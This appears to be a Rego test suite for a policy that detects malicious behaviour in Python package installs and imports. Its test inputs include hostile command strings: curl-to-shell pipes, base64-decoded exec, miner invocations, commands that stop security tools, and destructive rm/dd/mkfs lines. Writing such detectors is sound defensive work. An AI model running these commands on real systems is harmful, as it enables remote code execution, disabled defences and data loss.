package pip_witness.code_execution_test

import data.pip_witness.code_execution
import data.pip_witness.lib.fixture

import rego.v1

_found(evidence) := found if {
	# regal ignore:with-outside-test-context
	messages := code_execution.deny with input as evidence
	found := fixture.findings(messages)
}

_process(role, more) := _found(fixture.install([fixture.process(role, more)]))

# A program of package code, below a build.
_running(program, args) := _process("package-code", {
	"parentpid": 3, "program": program,
	"execs": fixture.ran(program, args),
})

_building(program, args) := _process("build-child", {
	"parentpid": 3, "program": program,
	"execs": fixture.ran(program, args),
})

_attempting(program, args) := _process("package-code", {"parentpid": 3, "execs": [{
	"program": program,
	"argv": array.concat([program], args),
	"errno": "ENOENT",
}]})

_calling(event) := _process("package-code", {"syscallEvents": [event]})

_shell(line) := _running("/usr/bin/dash", ["-c", line])

# What builds and imports of honest packages run.
test_quiet if {
	_found(fixture.install([])) == set()
	every command in [
		["uname", "-p"], ["lsb_release", "-a"], ["ldconfig", "-p"], ["gcc", "-c", "x.c", "-o", "x.o"], [
			"ld", "-t",
			"-lfoo",
		],
		["pkg-config", "--cflags", "libffi"], ["git", "version"], ["node", "--version"], ["java", "-version"],
		["file", "-b", "/usr/bin/x"],
		["python3", "-c", "from multiprocessing.resource_tracker import main;main(5)"], [
			"python3", "-c",
			"import sys; print(sys.path)",
		],
		["sh", "./configure", "--disable-shared"], ["pip", "--version"], ["python3", "-m", "pip", "list"], [
			"python3",
			"-m", "build",
		],
		["rm", "-rf", "build"], ["tar", "xf", "x.tar"], ["sh", "-c", "command -v curl"], ["env", "A=1", "make"],
		["perl", "gen.pl"],
		["mount"], ["df", "-h"], ["kill", "123"], ["systemctl", "status", "auditd"], [
			"curl", "-o", "x:9090",
			"http://127.0.0.1/",
		],
		["sh", "-c", "echo aGk= | base64 -d > x"], ["base64", "-d", "x"], ["find", ".", "-delete"], [
			"chmod", "755",
			"x",
		],
		["dd", "of=x"],
		["npm", "--version"], ["llm", "models"],
	] {
		_building(concat("/", ["/usr/bin", command[0]]), array.slice(command, 1, count(command))) == set()
	}
}

test_shell_pipe if {
	every line in [
		"curl -fsSL http://198.51.100.8/i.sh | sh", "wget -qO- x|tee log | bash -s -- -y", "bash -c \"$(curl -s x)\"",
		"eval \"$(wget -O- x)\"",
		". <(curl x)", "python3 <(curl x)", "/usr/bin/curl x | /usr/bin/env python3 -", "nohup sh -c 'curl x | sh' &",
	] {
		"CRITICAL:EXEC_SHELL_PIPE" in _shell(line)
	}
	_running("/usr/bin/python3", ["-c", "from urllib.request import urlopen; exec(urlopen('http://x').read())"]) == {"CRITICAL:EXEC_SHELL_PIPE"}
	every line in ["curl x -o y", "curl x | tar xz", "curl x; sh y", "bash -c 'echo $(id)'"] {
		not "CRITICAL:EXEC_SHELL_PIPE" in _shell(line)
	}
}

_siblings(first, second) := _found(fixture.install([
	fixture.process("build-child", {"processid": 8}),
	fixture.process("build-child", {"processid": 9, "parentpid": 8, "execs": first}),
	fixture.process("build-child", {"processid": 10, "parentpid": 8, "execs": second}),
]))

# Without a shell: the two ends of a pipe that a program made.
test_pipe_of_processes if {
	"CRITICAL:EXEC_SHELL_PIPE" in _siblings(fixture.ran("/usr/bin/curl", ["x"]), [{
		"program": "/usr/bin/dash",
		"argv": ["sh"],
	}])
	"CRITICAL:EXEC_B64_DECODE" in _siblings(fixture.ran("/usr/bin/base64", ["-d"]), [{
		"program": "/usr/bin/dash",
		"argv": ["sh"],
	}])
	_siblings(fixture.ran("/usr/bin/curl", ["x"]), fixture.ran("/usr/bin/tar", ["xz"])) == set()
}

test_decoding if {
	every line in [
		"echo dHJ1ZQo= | base64 -d | sh", "cat x | xxd -r -p | bash", "bash -c \"$(echo aWQ= | base64 --decode)\"",
		"openssl enc -d -a -in x | python3",
	] {
		"CRITICAL:EXEC_B64_DECODE" in _shell(line)
	}
	_running("/usr/bin/python3", [
		"-c",
		"import base64;exec(base64.b64decode('cGFzcw=='))",
	]) == {"CRITICAL:EXEC_B64_DECODE"}
	_running("/usr/bin/perl", ["-e", "use MIME::Base64; eval decode_base64('x')"]) == {"CRITICAL:EXEC_B64_DECODE"}
	_running("/usr/bin/powershell", ["-enc", "AAAA"]) == {"CRITICAL:EXEC_B64_DECODE", "CRITICAL:EXEC_FOREIGN_RUNTIME"}
	_running("/usr/bin/python3", ["-c", "import base64; print(base64.b64decode('x'))"]) == set()
}

_long := concat("", ["print(1);" | some _ in numbers.range(1, 100)])

test_inline if {
	_running("/usr/bin/python3", ["-c", _long]) == {"HIGH:EXEC_INLINE_INTERPRETER"}
	_running("/usr/bin/node", ["-e", _long]) & {"HIGH:EXEC_INLINE_INTERPRETER"} == {"HIGH:EXEC_INLINE_INTERPRETER"}
	_running("/usr/bin/python3", ["-c", concat("", [
		"f('", concat("", ["Zm9v" | some _ in numbers.range(1, 40)]),
		"')",
	])]) == {"HIGH:EXEC_INLINE_INTERPRETER"}
	_running("/usr/bin/python3", ["-"]) == {"HIGH:EXEC_INLINE_INTERPRETER"}
	_running("/usr/bin/dash", []) == {"HIGH:EXEC_INLINE_INTERPRETER"}
	_running("/usr/bin/python3", ["/dev/stdin"]) == {"HIGH:EXEC_INLINE_INTERPRETER"}
	_running("/usr/bin/bash", ["-c", _long]) == set()
}

_under(program, args, child) := _found(fixture.install([
	fixture.process("build-child", {"processid": 8, "parentpid": 3, "execs": fixture.ran(program, args)}),
	fixture.process("build-child", {"processid": 9, "parentpid": 8, "execs": child}),
]))

# Build tools and configure scripts do the same for other reasons.
test_quiet_build_tools if {
	every command in [["/usr/bin/cargo", "build"], ["/usr/bin/cmake", "."], ["/usr/bin/dash", "./configure"], [
		"/usr/bin/dash",
		"./config.status",
	]] {
		rest := array.slice(command, 1, 2)
		_under(command[0], rest, fixture.ran("/usr/bin/python3", ["-c", _long])) == set()
		_under(command[0], rest, [{"program": "/usr/bin/dash", "argv": ["/bin/sh"]}]) == set()
	}
	_under("/usr/bin/nohup", ["x"], fixture.ran("/usr/bin/python3", [
		"-c",
		_long,
	])) & {"HIGH:EXEC_INLINE_INTERPRETER"} != set()
}

test_dropped if {
	every program in [
		"/tmp/x", "/var/tmp/x", "/dev/shm/x", "/run/user/0/x", "/root/.x/y", "/root/.config/z/run",
		"/root/.cache/.h/x",
	] {
		_running(program, []) == {"CRITICAL:EXEC_FROM_TMP"}
	}
	_running("/usr/bin/python3", ["/tmp/x.pyz"]) == {"CRITICAL:EXEC_FROM_TMP"}
	_running("/usr/bin/dash", ["/tmp/x"]) == {"CRITICAL:EXEC_FROM_TMP"}
	_running("/usr/lib/ld-linux-x86-64.so.2", ["/tmp/x"]) == {"CRITICAL:EXEC_FROM_TMP"}
	_process("package-code", {
		"parentpid": 3,
		"openedfiles": {"/tmp/d/s.py": {"sha256": "aa"}},
		"execs": fixture.ran("/usr/bin/python3", ["./s.py"]),
	}) == {"CRITICAL:EXEC_FROM_TMP"}
	every program in [
		"/root/venv/bin/x", "/root/.cargo/bin/cargo", "/root/venv/.hidden/x", "/opt/python/.x/y",
		"/root/.cache/x/y",
	] {
		_running(program, []) == set()
	}
	_attempting("/tmp/x", []) == set()
	own := {"sandbox": {"home": "/root", "basePrefixes": ["/root/.own/py"]}}
	program := fixture.process("package-code", {"parentpid": 3, "execs": fixture.ran("/root/.own/py/bin/x", [])})
	_found({"processes": [fixture.installer, program], "coverage": object.union(fixture.coverage, own)}) == set()
}

# What the installer unpacked, and what a build made for its own use.
test_quiet_builds if {
	made := object.union(fixture.installer, {"fileOps": {"dirs": [
		{"path": "/tmp/pip-install-ab"},
		{"path": "/tmp"},
	]}})
	build := fixture.process("build-child", {
		"processid": 8, "parentpid": 3,
		"execs": fixture.ran("/tmp/pip-install-ab/x/configure", []),
	})
	_found({"processes": [made, build], "coverage": fixture.coverage}) == set()
	_found({
		"processes": [made, object.union(build, {"role": "package-code"})],
		"coverage": fixture.coverage,
	}) == {"CRITICAL:EXEC_FROM_TMP"}
	written := object.union(
		fixture.installer,
		{"fileOps": {"writes": [{"path": "/tmp/pip-build-env-ab/overlay/bin/ninja"}]}},
	)
	ninja := fixture.process("build-child", {
		"processid": 8,
		"parentpid": 3,
		"execs": fixture.ran("/tmp/pip-build-env-ab/overlay/bin/ninja", []),
	})
	_found({"processes": [written, ninja], "coverage": fixture.coverage}) == set()
}

_compiling(tester, runner) := _compiling_what(tester, runner, {"/root/.netrc": {"sha256": "aa"}})

_compiling_what(tester, runner, opened) := _found(fixture.install([
	fixture.process("build-child", {"processid": 8, "parentpid": 3, "execs": tester}),
	fixture.process("build-child", {
		"processid": 9,
		"parentpid": 8,
		"execs": fixture.ran("/usr/bin/ld", []),
		"fileOps": {
			"writes": [{"path": "/tmp/t/a.out"}],
			"renames": [{"oldPath": "/tmp/t/r", "newPath": "/tmp/t/b.out"}],
			"links": [{"path": "/tmp/t/c.out", "target": "b.out"}],
		},
	}),
	fixture.process("build-child", {
		"processid": 10, "parentpid": runner, "openedfiles": opened,
		"execs": fixture.ran("/tmp/t/a.out", []),
	}),
]))

test_compile_and_run if {
	_compiling(fixture.ran("/usr/bin/python3", ["x.py"]), 8) == {
		"CRITICAL:EXEC_FROM_TMP",
		"HIGH:EXEC_COMPILE_AND_RUN",
	}
	_compiling_what(fixture.ran("/usr/bin/python3", ["x.py"]), 8, {"/usr/lib/libc.so.6": {"sha256": "aa"}}) == {
		"MEDIUM:EXEC_FROM_TMP",
		"MEDIUM:EXEC_COMPILE_AND_RUN",
	}
	_compiling(fixture.ran("/usr/bin/cmake", ["."]), 8) == set()
	_compiling(fixture.ran("/usr/bin/cmake", ["."]), 3) == {"CRITICAL:EXEC_FROM_TMP", "HIGH:EXEC_COMPILE_AND_RUN"}
	inside := [
		object.union(fixture.installer, {"fileOps": {"dirs": [{"path": "/tmp/pip-install-ab"}]}}),
		fixture.process("build-child", {
			"processid": 9,
			"parentpid": 3,
			"execs": fixture.ran("/usr/bin/ld", []),
			"fileOps": {"writes": [{"path": "/tmp/pip-install-ab/a"}]},
		}),
		fixture.process("build-child", {"processid": 10, "parentpid": 3, "execs": fixture.ran(
			"/tmp/pip-install-ab/a",
			[],
		)}),
	]
	_found({"processes": inside, "coverage": fixture.coverage}) == set()
}

test_memory if {
	_running("/memfd:x (deleted)", []) & {"CRITICAL:EXEC_MEMFD"} == {"CRITICAL:EXEC_MEMFD"}
	_calling({
		"syscall": "execveat", "detail": "program by descriptor",
		"path": "/memfd: (deleted)",
	}) == {"CRITICAL:EXEC_MEMFD"}
	_calling({"syscall": "execveat", "detail": "program by descriptor", "path": "/usr/bin/true"}) == set()
	"CRITICAL:EXEC_MEMFD" in _process("package-code", {
		"parentpid": 3,
		"syscallEvents": [{"syscall": "memfd_create", "detail": "x"}],
		"execs": fixture.ran("/usr/bin/python3", ["/proc/self/fd/3"]),
	})
	_process("package-code", {"openedfiles": {"/memfd:x (deleted)": {"sha256": "aa"}}}) == {"HIGH:EXEC_MEMFD"}
	_calling({"syscall": "memfd_create", "detail": "x"}) == set()
}

test_runtimes if {
	_running("/usr/bin/bun", ["run", "x.js"]) == {"CRITICAL:EXEC_FOREIGN_RUNTIME"}
	_attempting("/usr/bin/osascript", ["-e", "x"]) == {"HIGH:EXEC_FOREIGN_RUNTIME"}
	_running("/usr/bin/node", ["x.js"]) == {"HIGH:EXEC_FOREIGN_RUNTIME"}
	_building("/usr/bin/npm", ["ci"]) == {"MEDIUM:EXEC_FOREIGN_RUNTIME"}
	_building("/usr/bin/npm", ["install", "-g", "x"]) == {"CRITICAL:EXEC_FOREIGN_RUNTIME"}
}

test_assistants if {
	_running("/usr/bin/claude", ["--dangerously-skip-permissions", "-p", "x"]) == {"CRITICAL:EXEC_AI_CLI_ABUSE"}
	_attempting("/usr/bin/q", ["chat", "--trust-all-tools"]) == {"CRITICAL:EXEC_AI_CLI_ABUSE"}
}

test_miners if {
	wallet := concat("", ["4A", concat("", ["b" | some _ in numbers.range(1, 93)])])
	every command in [
		["xmrig", "--version"], ["x", "-o", "stratum+tcp://a:1"], ["x", "--donate-level", "1"], ["x", wallet],
		["x", "-o", "pool.example:8080", "-u", "w", "-k"], ["x", "-a", "eu.nanopool.org:1"],
	] {
		_running(concat("/", ["/usr/bin", command[0]]), array.slice(
			command, 1,
			count(command),
		)) == {"CRITICAL:EXEC_MINER"}
	}
}

test_preload if {
	_process("package-code", {
		"parentpid": 3,
		"execs": fixture.ran("/usr/bin/true", []),
		"environ": "HOME=/root LD_PRELOAD=/tmp/x.so:/usr/lib/y.so PATH=/bin",
	}) == {"HIGH:EXEC_LD_PRELOAD"}
	_process("package-code", {
		"parentpid": 3,
		"execs": fixture.ran("/usr/bin/true", []),
		"environ": "LD_PRELOAD=/usr/lib/libjemalloc.so",
	}) == set()
}

test_injection if {
	_calling({"syscall": "ptrace", "detail": "request 16 pid 1", "args": [16, 1]}) == {"CRITICAL:EXEC_PTRACE_INJECT"}
	_calling({"syscall": "process_vm_writev", "detail": "pid 1", "args": [1]}) == {"CRITICAL:EXEC_PTRACE_INJECT"}
	_calling({"syscall": "pidfd_getfd", "args": [3]}) == {"CRITICAL:EXEC_PTRACE_INJECT"}
	_calling({"syscall": "process_vm_writev", "detail": "pid 9", "args": [9]}) == set()
	_calling({"syscall": "process_vm_readv", "detail": "pid 9", "args": [9]}) == set()
	_process("package-code", {"fileOps": {"opens": [{
		"path": "/proc/2/mem",
		"mode": "write",
	}]}}) == {"CRITICAL:EXEC_PTRACE_INJECT"}
	_process("package-code", {"fileOps": {"opens": [{"path": "/proc/9/mem", "mode": "write"}]}}) == set()
}

test_kernel_modules if {
	_calling({"syscall": "finit_module", "args": [3]}) == {"CRITICAL:EXEC_KERNEL_MODULE"}
	_attempting("/sbin/insmod", ["x.ko"]) == {"CRITICAL:EXEC_KERNEL_MODULE"}
}

test_privileges if {
	_attempting("/usr/bin/sudo", ["-n", "true"]) == {"HIGH:EXEC_PRIV_ESC"}
	_process("package-code", {"fileOps": {"permChanges": [{
		"path": "/tmp/x",
		"mode": "04755",
	}]}}) == {"HIGH:EXEC_PRIV_ESC"}
	_process("package-code", {"fileOps": {
		"permChanges": [{"path": "/tmp/d", "mode": "02755"}, {"path": "/tmp/x", "mode": "0755"}, {
			"path": "/tmp/y",
			"mode": "0:0",
		}],
		"dirs": [{"path": "/tmp/d"}],
	}}) == set()
	_calling({"syscall": "setxattr", "detail": "security.capability", "path": "/tmp/x"}) == {"HIGH:EXEC_PRIV_ESC"}
}

test_detached if {
	_calling({"syscall": "setsid"}) == {"HIGH:EXEC_DETACHED"}
	_running("/usr/bin/nohup", ["x"]) == {"HIGH:EXEC_DETACHED"}
	_running("/usr/bin/tmux", ["new", "-d", "x"]) == {"HIGH:EXEC_DETACHED"}
	_process("build-child", {
		"parentpid": 3,
		"execs": fixture.ran("/usr/bin/sccache", ["--start-server"]),
		"syscallEvents": [{"syscall": "setsid"}],
	}) == set()
}

_left(more) := _found(fixture.install([
	fixture.process("package-code", {"processid": 20, "syscallEvents": [{"syscall": "setsid"}]}),
	fixture.process("package-code", object.union({"processid": 21, "parentpid": 20}, more)),
]))

# What it does once nobody waits for it.
test_detached_and_busy if {
	_left({}) == {"HIGH:EXEC_DETACHED"}
	_left({"openedfiles": {"/root/.aws/credentials": {}}}) == {"CRITICAL:EXEC_DETACHED"}
	_left({"network": {"connections": [fixture.connection("203.0.113.9", 443)]}}) == {"CRITICAL:EXEC_DETACHED"}
	_left({"network": {"connections": [fixture.datagram("sendto", "127.0.0.53", 53)]}}) == {"HIGH:EXEC_DETACHED"}
	_left({"parentpid": 30, "openedfiles": {"/root/.aws/credentials": {}}}) == {"CRITICAL:EXEC_DETACHED"}
}

test_recon if {
	_shell("hostname; whoami; id; ip addr") == {"MEDIUM:EXEC_RECON"}
	_shell("whoami; id; cat /etc/passwd") == {"MEDIUM:EXEC_RECON"}
	_shell("env A=1 ls; uname -a; pwd; id; df") == set()
	_shell("env; printenv; w") == {"MEDIUM:EXEC_RECON"}
	_under("/usr/bin/dash", ["./configure"], fixture.ran("/usr/bin/dash", ["-c", "hostname; whoami; id"])) == set()
}

test_analysis if {
	_calling({"syscall": "ptrace", "detail": "request 0 pid 0", "args": [0, 0]}) == {"HIGH:EXEC_ANTI_ANALYSIS"}
	_calling({"syscall": "prctl", "detail": "PR_SET_DUMPABLE", "args": [4, 0]}) == {"HIGH:EXEC_ANTI_ANALYSIS"}
	_calling({"syscall": "prctl", "detail": "PR_SET_DUMPABLE", "args": [4, 1]}) == set()
	_calling({"syscall": "clone", "detail": "flags", "args": [8388625]}) == {"HIGH:EXEC_ANTI_ANALYSIS"}
	reading := {"/proc/9/status": {}, "/proc/uptime": {}, "/proc/modules": {}}
	_process("package-code", {"openedfiles": reading}) == {"MEDIUM:EXEC_ANTI_ANALYSIS"}
	_process("package-code", {"openedfiles": {"/proc/9/status": {}}}) == set()
	_process("package-code", {"program": "/usr/bin/ps", "openedfiles": reading}) == set()
	others := {sprintf("/proc/%d/comm", [n]): {} | some n in numbers.range(20, 30)}
	_process("package-code", {
		"parentpid": 3,
		"openedfiles": others,
		"execs": fixture.ran("/usr/bin/systemd-detect-virt", []),
	}) == {"MEDIUM:EXEC_ANTI_ANALYSIS"}
}

test_blind_spots if {
	_calling({"syscall": "io_uring_setup", "refused": "ENOSYS"}) == {"HIGH:EXEC_IO_URING"}
	_process("build-child", {
		"program": "/usr/bin/node",
		"syscallEvents": [{"syscall": "io_uring_setup"}],
	}) == {"LOW:EXEC_IO_URING"}
	_calling({"syscall": "foreign", "detail": "architecture 0x40000003 number 5"}) == {"HIGH:EXEC_COMPAT_SYSCALL"}
	_calling({"syscall": "seccomp", "detail": "operation 1 flags 0x8", "args": [1, 8]}) == {"HIGH:EXEC_TRACE_GAP"}
	_calling({"syscall": "seccomp", "detail": "operation 1 flags 0x0", "args": [1, 0]}) == set()
	_calling({"syscall": "open_by_handle_at", "refused": "EPERM"}) == {"HIGH:EXEC_TRACE_GAP"}
}

_asking(more) := _found(fixture.imported([fixture.harness(object.union(
	{"syscallEvents": [{"syscall": "io_uring_setup", "refused": "ENOSYS"}]},
	more,
))]))

test_rings_at_import if {
	_asking({}) == {"MEDIUM:EXEC_IO_URING"}
	_asking({"network": {"connections": [fixture.connection("127.0.0.1", 8080)]}}) == {"MEDIUM:EXEC_IO_URING"}
	_asking({"network": {"connections": [fixture.connection("198.51.100.10", 443)]}}) == {"HIGH:EXEC_IO_URING"}
	_asking({"openedfiles": {"/root/.aws/credentials": {}}}) == {"HIGH:EXEC_IO_URING"}
	_asking({"syscallEvents": [{"syscall": "io_uring_setup"}]}) == {"HIGH:EXEC_IO_URING"}
	"HIGH:EXEC_IO_URING" in _asking({"program": "/tmp/loop"})
}

test_security_tools if {
	every line in [
		"pkill -f falcon-sensor", "systemctl stop auditd", "systemctl --now disable wazuh-agent", "setenforce 0",
		"iptables -F", "ufw disable",
		"apt-get -y remove clamav",
	] {
		"CRITICAL:EXEC_SECURITY_TOOL_KILL" in _shell(line)
	}
}

test_destruction if {
	every line in [
		"rm -rf ~", "rm -rf \"$HOME\"", "rm -fr /root/", "rm --no-preserve-root -r x", "shred -u x",
		"mkfs.ext4 /dev/sda", "find / -delete",
		"dd if=/dev/zero of=/dev/sda",
	] {
		_shell(line) == {"CRITICAL:EXEC_DESTRUCTIVE"}
	}
	many := [{"path": sprintf("/root/docs/%d", [n])} | some n in numbers.range(1, 60)]
	_process("package-code", {"fileOps": {"deletes": many}}) == {"CRITICAL:EXEC_DESTRUCTIVE"}
	quiet := [{"path": path} |
		some n in numbers.range(1, 60)
		some path in [
			sprintf("/root/.cache/%d", [n]), sprintf("/root/venv/lib/%d", [n]), sprintf("/root/project/%d", [n]),
			sprintf("/tmp/%d", [n]), sprintf("/root/own/%d", [n]),
		]
	]
	own := [{"path": sprintf("/root/own/%d", [n]), "created": true} | some n in numbers.range(1, 60)]
	_process("package-code", {"fileOps": {"deletes": quiet, "writes": own}}) == set()
	_process("package-code", {"fileOps": {"deletes": [{"path": "/root/x", "errno": "ENOENT"}]}}) == set()
	home := {"sandbox": {"home": "/data/me", "tempDir": "/tmp"}}
	_found({
		"processes": [fixture.installer, fixture.process("package-code", {
			"parentpid": 3,
			"execs": fixture.ran("/usr/bin/rm", ["-r", "/data/me/*"]),
		})],
		"coverage": object.union(fixture.coverage, home),
	}) == {"CRITICAL:EXEC_DESTRUCTIVE"}
	decoys := {"sandbox": {"home": "/root", "decoys": [{"path": "/root/.netrc"}, {"path": "/root/.pypirc"}]}}
	_found({
		"processes": [fixture.installer, fixture.process("package-code", {"fileOps": {"deletes": [
			{"path": "/root/.netrc"},
			{"path": "/root/.pypirc"},
		]}})],
		"coverage": object.union(fixture.coverage, decoys),
	}) == {"CRITICAL:EXEC_DESTRUCTIVE"}
}

# The same command says another thing where nobody waits for it any more.
test_destruction_by_what_goes_on if {
	every target in ["~/sources", "$HOME/.ssh", "/root/sources/", "/root/canary"] {
		"CRITICAL:EXEC_DESTRUCTIVE" in _outliving(target)
		not "CRITICAL:EXEC_DESTRUCTIVE" in _running("/usr/bin/rm", ["-rf", target])
	}
	every target in ["~/.cache", "~/.cache/x", "/root/.cache/", "/root/venv", "/root/project", "/root/a/b", "/tmp/x"] {
		not "CRITICAL:EXEC_DESTRUCTIVE" in _outliving(target)
	}
}

_outliving(target) := _found(fixture.install([
	fixture.process("package-code", {"syscallEvents": [{"syscall": "setsid", "detail": "", "args": []}]}),
	fixture.process("package-code", {
		"processid": 10, "parentpid": 9, "program": "/usr/bin/rm",
		"execs": fixture.ran("/usr/bin/rm", ["-rf", target]),
	}),
]))

test_nested_installers if {
	_running("/usr/bin/pip3", ["install", "x"]) == {"HIGH:EXEC_NESTED_PIP"}
	_running("/usr/bin/python3", ["-I", "-m", "pip", "install", "x"]) == {"HIGH:EXEC_NESTED_PIP"}
	_building("/usr/bin/python3", ["-m", "pip", "wheel", "--no-deps", "x"]) == {"MEDIUM:EXEC_NESTED_PIP"}
}

_frontend(args) := object.union(fixture.installer, {"processid": 3, "parentpid": 2, "args": args})

_built(frontend, build) := _found(fixture.install([
	frontend,
	fixture.process("build-child", object.union({"parentpid": 3, "program": fixture.python}, build)),
]))

test_build_requirements if {
	overlay := ["pip", "install", "--ignore-installed", "--prefix", "/tmp/pip-build-env-x1/overlay", "helper"]
	_built(_frontend(overlay), {"exitcode": 0}) == {"MEDIUM:EXEC_BUILD_REQUIREMENT"}
	_built(_frontend(["pip", "install", "--prefix", "/opt/x", "demo"]), {"exitcode": 0}) == set()
	_built(_frontend(["pip", "install", "demo", "--prefix"]), {"exitcode": 0}) == set()
}

test_failed_builds if {
	demo := _frontend(["pip", "install", "demo"])
	_built(demo, {"exitcode": 1}) == {"MEDIUM:EXEC_BUILD_FAILED"}
	_built(demo, {"exitcode": 0}) == set()
	_built(demo, {}) == set()

	# What a build tries may fail.
	_found(fixture.install([
		demo,
		fixture.process("build-child", {"parentpid": 3, "exitcode": 0}),
		fixture.process("build-child", {"processid": 10, "parentpid": 9, "exitcode": 1}),
	])) == set()
}

test_memory_to_run if {
	_calling({"syscall": "mmap", "detail": "anonymous and executable"}) == {"LOW:EXEC_RWX"}
}

test_names if {
	_calling({"syscall": "prctl", "detail": "PR_SET_NAME \"kworker/0:1\" main thread", "args": [
		15,
		0,
	]}) == {"MEDIUM:EXEC_NAME_SPOOF"}
	_calling({"syscall": "prctl", "detail": "PR_SET_NAME \"kworker/0:1\"", "args": [15, 0]}) == set()
	_calling({"syscall": "prctl", "detail": "PR_SET_NAME \"jemalloc_bg\" main thread", "args": [15, 0]}) == set()
	_process("package-code", {"parentpid": 3, "execs": [{"program": "/usr/bin/sleep", "argv": [
		"[kworker/1:0]",
		"9",
	]}]}) == {"MEDIUM:EXEC_NAME_SPOOF"}
}

# At the import the harness runs the package in itself.
test_import if {
	_found(fixture.imported([fixture.harness({"syscallEvents": [{"syscall": "setsid"}]})])) == {"HIGH:EXEC_DETACHED"}
	_found(fixture.imported([fixture.harness({})])) == set()
}

test_not_evaluated if {
	every message in code_execution.not_evaluated {
		startswith(message, "EXEC_")
	} with input as fixture.install([])
	count(code_execution.not_evaluated) == 26 with input as {"processes": []}
	unseen := "EXEC_BUILD_FAILED: exits of processes were not observed"
	unseen in code_execution.not_evaluated with input as fixture.install([])
	ended := fixture.process("build-child", {"exitcode": 0})
	not unseen in code_execution.not_evaluated with input as fixture.install([ended])
}
